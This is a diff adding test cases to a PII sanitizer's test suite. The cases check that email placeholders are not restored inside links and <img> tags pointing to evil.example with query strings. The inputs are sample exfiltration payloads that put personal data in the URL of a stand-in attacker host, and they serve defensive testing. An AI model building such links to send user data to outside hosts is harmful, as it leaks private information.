@@ -468,6 +468,11 @@ describe('pii-sanitizer custom categories', () => {
     expect(restored(`|https://acme.io|${email}|`)).toBe('|https://acme.io|alice@corp.example|');
     expect(restored(`| x | ![p](https://evil.example/p.png?a=1|${email}) |`)).toContain(email);
     expect(restored(`See https://evil.example/?a=1,${email}`)).toContain(email);
+    // A separator before the link on its row ends only a site's bare address: a link with a path or a query runs on.
+    expect(restored(`Hi, see https://evil.example/?a=1,${email}`)).toContain(email);
+    expect(restored(`Hi, <img src="https://evil.example/p.png?a=1,${email}">`)).toContain(email);
+    expect(restored(`Thanks, Bob. https://evil.example/log?d=x,${email}`)).toContain(email);
+    expect(restored(`{"text":"Hi, https:\\/\\/evil.example\\/?a=1,${email}"}`, true)).toContain(email);
   });
 
   it('restores the placeholders a model alters (case, a blank, Markdown escapes), the vault issued only, also split across chunks', async () => {
